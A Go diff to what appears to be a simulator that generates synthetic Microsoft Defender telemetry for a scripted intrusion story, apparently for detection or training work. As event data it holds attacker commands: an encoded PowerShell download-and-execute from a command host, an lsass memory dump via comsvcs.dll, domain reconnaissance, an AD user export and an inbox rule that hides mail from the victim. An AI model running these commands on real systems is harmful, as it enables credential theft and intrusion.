@@ -25,7 +25,8 @@ func (w *World) newStory() *story {
 	lure := s.phish(e, c)
 	loader := s.open(c, lure)
 	implant := s.persist(c, loader)
-	s.discover(implant)
+	s.discover(c, implant)
+	s.readMail(c)
 	s.steal(c, implant)
 	s.spread(c, implant)
 	s.leave(c)
@@ -70,7 +71,8 @@ func (s *scene) phish(e *estate, c cast) *mail {
 		}
 	}
 	copied := *delivered
-	removed := s.alarm(s.at(7, 55, 3), "Email messages containing malicious file removed after delivery", "InitialAccess", "Informational",
+	s.lure, s.removed = &copied, s.at(12, 6, 3)
+	removed := s.alarm(s.removed+20*second, "Email messages containing malicious file removed after delivery", "InitialAccess", "Informational",
 		[]string{"Spearphishing Attachment (T1566.001)"},
 		evidence{kind: "MailMessage", role: "Related", user: c.victim, mail: &copied})
 	removed.service, removed.detection = "Microsoft Defender for Office 365", "Microsoft Defender for Office 365"
@@ -84,6 +86,7 @@ func (s *scene) open(c cast, lure *mail) *process {
 	cache := x.home(c.victim) + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + s.d.hex(8)
 	s.write(s.at(8, 47, 31), outlook, cache, lure.attachments[0].name, lure.attachments[0].size)
 	excel := s.run(s.at(8, 47, 33), outlook, "EXCEL.EXE", `"`+images["EXCEL.EXE"].path("")+`" "`+cache+`\`+lureName+`"`)
+	s.load(s.at(8, 47, 41), excel, "VBE7.DLL")
 	shell := s.run(s.at(8, 48, 2), excel, "powershell.exe", "powershell.exe -NoP -W Hidden -Enc "+
 		encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+commandIn.name+"/a/loader.ps1')"))
 	s.connect(s.at(8, 48, 5), shell, commandIn, 443)
@@ -121,13 +124,33 @@ func (s *scene) persist(c cast, loader *process) *process {
 }
 
 // discover is what an intruder asks first.
-func (s *scene) discover(implant *process) {
+func (s *scene) discover(c cast, implant *process) {
 	shell := s.run(s.at(9, 31, 5), implant, "cmd.exe", `cmd.exe /q /c whoami /all & net group "Domain Admins" /domain & nltest /dclist:`)
 	s.run(s.at(9, 31, 6), shell, "whoami.exe", "whoami /all")
 	net := s.run(s.at(9, 31, 9), shell, "net.exe", `net group "Domain Admins" /domain`)
 	s.run(s.at(9, 31, 9)+second, net, "net1.exe", `C:\WINDOWS\system32\net1 group "Domain Admins" /domain`)
 	s.run(s.at(9, 31, 14), shell, "nltest.exe", "nltest /dclist:"+domain)
+	s.directoryQueries = append(s.directoryQueries, directoryEvent{
+		event: event{at: s.at(9, 31, 10), device: c.workplace, action: "SAMR query"}, application: activeDirectory, kind: "EnumerateMembersInGroup",
+		protocol: "Samr", queryTarget: "Domain Admins", user: c.victim, server: c.domain, port: 445, sourcePort: 50211, from: countryOf(c.victim), id: s.d.guid(),
+	})
 }
+
+// readMail uses the victim's session from outside, and hides what would warn the victim.
+func (s *scene) readMail(c cast) {
+	s.signIns = append(s.signIns, signIn{
+		event: event{at: s.at(11, 43, 50), action: "SignIn"}, user: c.victim, application: applications[1], kind: "interactiveUser",
+		from: away, ip: commandIn.ip, risk: 50, session: s.d.guid(), request: s.d.guid(),
+	})
+	rule := activityKinds[6] // a rule of the inbox
+	s.activities = append(s.activities, activity{
+		event: event{at: s.at(11, 47, 2), device: c.workplace, action: rule.action}, kind: rule, user: c.victim, home: away, ip: commandIn.ip,
+		object: "Move anything about Northwind or invoice 48213 to RSS Feeds", id: s.d.guid(), outsider: true,
+	})
+}
+
+// away is where the intruder signs in from.
+var away = place{"NL", "Netherlands", "Zwolle", "Cheap Racks"}
 
 // steal dumps the memory of lsass, where an administrator's session has left its secrets.
 func (s *scene) steal(c cast, implant *process) {
@@ -135,6 +158,8 @@ func (s *scene) steal(c cast, implant *process) {
 	s.logOn(s.at(9, 58, 12), nil, x, c.admin, "Interactive", "Negotiate")
 	dumper := s.run(s.at(10, 12, 44), implant, "rundll32.exe", fmt.Sprintf(
 		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\settings.dmp full`, x.residents["lsass.exe"].pid))
+	s.load(s.at(10, 12, 44), dumper, "comsvcs.dll")
+	s.load(s.at(10, 12, 45), dumper, "dbgcore.dll")
 	s.openProcess(s.at(10, 12, 45), dumper, x.residents["lsass.exe"], 0x1fffff)
 	dump := *s.write(s.at(10, 12, 47), dumper, `C:\Users\Public`, "settings.dmp", 61_431_908)
 	s.alarm(s.at(10, 16, 2), "Sensitive credential memory read", "CredentialAccess", "High", []string{"LSASS Memory (T1003.001)"},
@@ -157,6 +182,8 @@ func (s *scene) spread(c cast, implant *process) {
 	s.logOn(s.at(11, 21, 41), x, c.domain, c.admin, "Network", "NTLM")
 	collector := s.run(s.at(11, 21, 43), c.domain.residents["WmiPrvSE.exe"], "powershell.exe", "powershell.exe -NoP -NonI -W Hidden -Enc "+
 		encoded("Get-ADUser -Filter * -Properties * | Export-Csv C:\\ProgramData\\u.csv"))
+	s.changeDirectory(s.at(11, 4, 22), c, "Service creation", c.files, `{"ServiceName":"PSEXESVC","ServiceCommand":"%SystemRoot%\\PSEXESVC.exe"}`)
+	s.changeDirectory(s.at(11, 21, 42), c, "PowerShell execution", c.domain, `{"Command":"Get-ADUser"}`)
 	collector.user = c.admin // WMI runs what it is told to as the caller
 	s.alarm(s.at(11, 9, 30), "PsExec started a process on a remote device", "LateralMovement", "Medium",
 		[]string{"SMB/Windows Admin Shares (T1021.002)", "Service Execution (T1569.002)"},
@@ -164,6 +191,18 @@ func (s *scene) spread(c cast, implant *process) {
 		evidence{kind: "Machine", role: "Related", device: x},
 		evidence{kind: "User", role: "Related", device: c.files, user: c.admin},
 		evidence{kind: "Process", role: "Related", device: c.files, user: systemAccount, process: shell})
+}
+
+// changeDirectory is what Defender for Identity saw of it.
+func (s *scene) changeDirectory(at int64, c cast, action string, on *device, fields string) {
+	s.directoryChanges = append(s.directoryChanges, directoryEvent{
+		event: event{at: at, device: c.workplace, action: action}, application: activeDirectory, user: c.admin, server: on,
+		from: countryOf(c.admin), fields: fields, id: s.d.guid(), sourcePort: 50377, port: 135,
+	})
+	s.identityLogons = append(s.identityLogons, directoryEvent{
+		event: event{at: at - 2*second, device: c.workplace, action: "LogonSuccess"}, application: activeDirectory, kind: "Credentials validation",
+		protocol: "Ntlm", user: c.admin, server: on, port: 445, from: countryOf(c.admin), id: s.d.guid(), sourcePort: 50376,
+	})
 }
 
 // leave packs the finance share at night and copies it out with a renamed rclone.
